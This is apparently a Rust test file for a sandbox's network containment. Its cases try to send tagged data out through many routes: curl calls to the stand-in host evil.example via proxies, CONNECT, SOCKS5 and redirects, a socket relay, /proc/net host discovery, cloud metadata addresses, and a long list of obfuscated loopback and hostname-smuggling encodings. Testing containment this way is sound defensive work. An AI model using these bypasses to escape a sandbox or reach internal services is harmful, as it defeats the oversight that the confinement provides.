//! G: what leaves, by every way in. The listener on the host is the judge.

#![expect(clippy::too_many_lines, reason = "tables of cases")]

use std::path::Path;

use crate::case::{Case, Control, Sign, case, python, sh};
use crate::files::told;
use crate::world::World;

/// All of G.
pub(crate) fn cases(world: &World) -> Vec<Case> {
    let mut cases = direct(world);
    cases.extend(by_name(world));
    cases.extend(crate::reach::cases(world));
    cases
}

fn direct(world: &World) -> Vec<Case> {
    let (tcp, udp, allowed) = (
        world.listeners.tcp,
        world.listeners.udp,
        world.listeners.allowed,
    );
    let nowhere = Control::None("no route leads there outside either; G02 is its control");
    let mut cases = vec![
        case(
            "G01",
            "TCP to the host's loopback",
            format!("inet 1 0 \"127.0.0.1 {tcp}"),
            Sign::Facts,
        ),
        case(
            "G01b",
            "to a port that is allowed by name",
            format!("inet 1 0 \"127.0.0.1 {allowed}"),
            Sign::Facts,
        ),
        case(
            "G01c",
            "to 0.0.0.0",
            format!("inet 1 0 \"0.0.0.0 {tcp}"),
            Sign::Facts,
        ),
        case(
            "G02",
            "TCP of IPv6",
            format!("inet 1 0 \"::1 {tcp}"),
            Sign::Facts,
        ),
        case(
            "G02b",
            "to a mapped address",
            format!("inet 1 0 \"::ffff:127.0.0.1 {tcp}"),
            Sign::Facts,
        ),
        case(
            "G02c",
            "to 6to4",
            format!("inet 1 0 \"2002:7f00:1:: {tcp}"),
            Sign::Facts,
        )
        .control(nowhere),
        case(
            "G02d",
            "to NAT64",
            format!("inet 1 0 \"64:ff9b::7f00:1 {tcp}"),
            Sign::Facts,
        )
        .control(nowhere),
        case(
            "G02e",
            "to a link-local address",
            format!("inet 1 0 \"fe80::1 {tcp}"),
            Sign::Facts,
        )
        .control(nowhere),
        case(
            "G02f",
            "to Teredo",
            format!("inet 1 0 \"2001::1 {tcp}"),
            Sign::Facts,
        )
        .control(nowhere),
        case(
            "G02g",
            "to the metadata service",
            "inet 1 0 \"169.254.169.254 80",
            Sign::Facts,
        )
        .control(nowhere),
        case(
            "G03",
            "UDP",
            format!("inet 2 0 \"127.0.0.1 {udp}"),
            Sign::Facts,
        ),
        case(
            "G05",
            "MPTCP",
            format!("inet 1 262 \"127.0.0.1 {tcp}"),
            Sign::Facts,
        ),
        case(
            "G05b",
            "TCP Fast Open",
            format!("inet 1 0 \"127.0.0.1 {tcp} 1"),
            Sign::Facts,
        ),
        case(
            "G05c",
            "MPTCP of IPv6",
            format!("inet 1 262 \"::1 {tcp}"),
            Sign::Facts,
        ),
        case(
            "G25",
            "through a relay of its own",
            python(&format!(
                "import socket, threading\nl = socket.create_server(('127.0.0.1', 0))\ndef relay():\n c, _ = l.accept()\n o = socket.create_connection(('127.0.0.1', {tcp}), 3)\n o.sendall(c.recv(99))\n\
             threading.Thread(target=relay, daemon=True).start()\ns = socket.create_connection(l.getsockname())\ns.sendall(b'G25-in G25-out')\nimport time; time.sleep(.3)"
            )),
            Sign::Facts,
        ),
        case(
            "G27",
            "the port of another agent",
            "inet 1 0 \"127.0.0.1 8123",
            Sign::Look(neighbour_heard),
        )
        .control(Control::Neighbour),
        case(
            "G28",
            "learn who listens on the host",
            sh(&format!(
                "grep -ai ':{tcp:04X} ' /proc/net/tcp /proc/self/net/tcp"
            )),
            Sign::Look(told),
        ),
    ];
    if let Some(address) = own_address() {
        cases.push(case(
            "G28b",
            "learn the host's addresses",
            sh(&format!(
                "grep -aw {address} /proc/net/fib_trie /proc/net/arp"
            )),
            Sign::Look(told),
        ));
        cases.push(case(
            "G26",
            "TCP to an address of the host",
            format!(
                "inet 1 0 {} {}",
                crate::case::q(&address),
                world.listeners.everywhere
            ),
            Sign::Facts,
        ));
    }
    cases
}

fn neighbour_heard(world: &World, _: &crate::attacker::Outcome) -> Option<String> {
    let heard = || {
        std::fs::read_to_string(Path::new(&world.neighbour.workspace).join("heard"))
            .unwrap_or_default()
    };
    // It writes when it wakes up.
    let end = std::time::Instant::now() + std::time::Duration::from_millis(300);
    while std::time::Instant::now() < end && !heard().contains("G27-") {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    heard().contains("G27-").then(heard)
}

/// An address of this machine that is not its loopback.
pub(crate) fn own_address() -> Option<String> {
    let mut ip = std::process::Command::new("hostname");
    ip.arg("-I");
    let said = wsm_tests::cli::run(ip, b"");
    said.stdout.split_whitespace().next().map(str::to_owned)
}

/// The permitted name in the place of the forbidden one is the control of all of these.
fn by_name(world: &World) -> Vec<Case> {
    let port = world.listeners.allowed;
    let tcp = world.listeners.tcp;
    let curl = |id: &str, arguments: &str| {
        sh(&format!(
            "curl -s --max-time 4 {}",
            arguments
                .replace("ID", &format!("{id}-in{id}-out"))
                .replace("HOP", &format!("{id}+in{id}+out"))
        ))
    };
    let raw = |id: &str, text: &str| {
        python(&format!(
            "import socket\ns = socket.create_connection(('127.0.0.1', 1023), 4)\ns.settimeout(4)\ns.sendall({text})\nprint(s.recv(200))\ns.sendall(b'GET /{id}-in{id}-out HTTP/1.1\\r\\nhost: evil.example:{port}\\r\\n\\r\\n')\nprint(s.recv(200))"
        ))
    };
    let ways = [
        ("G09", "by no proxy", "http://evil.example:PORT/ID"),
        (
            "G09b",
            "by an absolute request",
            "-x http://127.0.0.1:1023 http://evil.example:PORT/ID",
        ),
        (
            "G09c",
            "by CONNECT",
            "-p -x http://127.0.0.1:1023 http://evil.example:PORT/ID",
        ),
        (
            "G09d",
            "by SOCKS5 with the name",
            "--socks5-hostname 127.0.0.1:1023 http://evil.example:PORT/ID",
        ),
        ("G09e", "by a post", "-d x=ID http://evil.example:PORT/"),
        (
            "G09f",
            "by another Host",
            "-H 'Host: evil.example:PORT' http://allowed.example:PORT/ID",
        ),
        (
            "G14",
            "in capitals with a dot",
            "http://EVIL.Example.:PORT/ID",
        ),
        (
            "G19",
            "by a redirect of an allowed host",
            "-L http://allowed.example:PORT/hop/301/evil.example:PORT/HOP",
        ),
        (
            "G19b",
            "by another one",
            "-L http://allowed.example:PORT/hop/302/evil.example:PORT/HOP",
        ),
        (
            "G19c",
            "by one that keeps the method",
            "-L -d x http://allowed.example:PORT/hop/307/evil.example:PORT/HOP",
        ),
        (
            "G19d",
            "by one through the proxy",
            "-L -x http://127.0.0.1:1023 http://allowed.example:PORT/hop/308/evil.example:PORT/HOP",
        ),
    ];
    let mut cases: Vec<_> = ways
        .iter()
        .map(|(id, what, arguments)| {
            let calls = curl(id, &arguments.replace("PORT", &port.to_string()));
            case(
                id,
                &format!("a host that no rule names, {what}"),
                calls.replace("EVIL.Example.", "evil.example."),
                Sign::Facts,
            )
            .control(Control::Permitted)
        })
        .collect();
    cases.push(
        case(
            "G21",
            "an upgrade to another protocol",
            curl(
                "G21",
                &format!(
                    "-H 'Connection: Upgrade' -H 'Upgrade: websocket' http://evil.example:{port}/ID"
                ),
            ),
            Sign::Facts,
        )
        .control(Control::None(
            "no host may be upgraded to; G09 is its control",
        )),
    );
    let hosts = [
        ("G15", "127.0.0.1"),
        ("G15b", "127.1"),
        ("G15c", "2130706433"),
        ("G15d", "0x7f000001"),
        ("G15e", "0177.0.0.1"),
        ("G15f", "[::1]"),
        ("G15g", "[::ffff:127.0.0.1]"),
        ("G15h", "localhost"),
        ("G15i", "0.0.0.0"),
        ("G15j", "127.0.0.1%25lo"),
        ("G18", "xallowed.example"),
        ("G18b", "allowed.example.evil.example"),
        ("G18c", "evil.example#allowed.example"),
        ("G13", "evil.example\\0.allowed.example"),
        ("G13b", "evil.example%00.allowed.example"),
        ("G13c", "allowed.example@evil.example"),
        ("G13d", "evil.example\\\\.allowed.example"),
        ("G13e", "evil.example .allowed.example"),
        ("G13f", "allowed..example"),
        ("G13g", "evil.example\\r\\nhost: allowed.example"),
        ("G13h", "evil.example\\t"),
        ("G16", "inner.example"),
        ("G16b", "metadata.google.internal"),
        ("G16c", "169.254.169.254"),
        ("G16d", "[fd00:ec2::254]"),
        ("G26b", "host.docker.internal"),
        ("G26c", "gateway.docker.internal"),
        ("G14b", "EVIL.example."),
        ("G14c", "evil\\xef\\xbc\\x8eexample"),
        ("G14d", "xn--evil-.example"),
        ("G15k", "127.0.0.1."),
        ("G15l", "0"),
        ("G15m", "[::ffff:7f00:1]"),
        ("G15n", "[::]"),
        ("G15o", "[::1%25lo]"),
        ("G15p", "\\xe2\\x91\\xa027.0.0.1"),
        ("G18d", "allowed.example.localhost"),
        (
            "G13i",
            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.example",
        ),
    ];
    for (id, host) in hosts {
        let text =
            format!("b'CONNECT {host}:{port} HTTP/1.1\\r\\nhost: {host}:{port}\\r\\n\\r\\n'");
        let permitted = format!(
            "b'CONNECT allowed.example:{port} HTTP/1.1\\r\\nhost: allowed.example:{port}\\r\\n\\r\\n'"
        );
        let there = raw(id, &permitted).replace("evil.example", "allowed.example");
        cases.push(
            case(
                id,
                &format!("CONNECT to {host}"),
                raw(id, &text),
                Sign::Facts,
            )
            .by(Control::Permitted, there),
        );
    }
    cases.push(
        case(
            "G10",
            "SOCKS5 to an address",
            curl(
                "G10",
                &format!("--socks5 127.0.0.1:1023 http://127.0.0.1:{tcp}/ID"),
            ),
            Sign::Facts,
        )
        .by(
            Control::Permitted,
            curl(
                "G10",
                &format!("--socks5-hostname 127.0.0.1:1023 http://allowed.example:{port}/ID"),
            ),
        ),
    );
    cases.push(case(
        "G29",
        "another port of an allowed host",
        curl("G29", &format!("http://allowed.example:{tcp}/ID")),
        Sign::Facts,
    ));
    cases.push(
        case(
            "G38",
            "the allowed host's address by hand",
            curl(
                "G38",
                &format!(
                    "--resolve allowed.example:{port}:192.0.2.77 http://allowed.example:{port}/ID"
                ),
            ),
            Sign::Facts,
        )
        .by(
            Control::Host,
            curl("G38", &format!("http://127.0.0.1:{port}/ID")),
        ),
    );
    cases
}
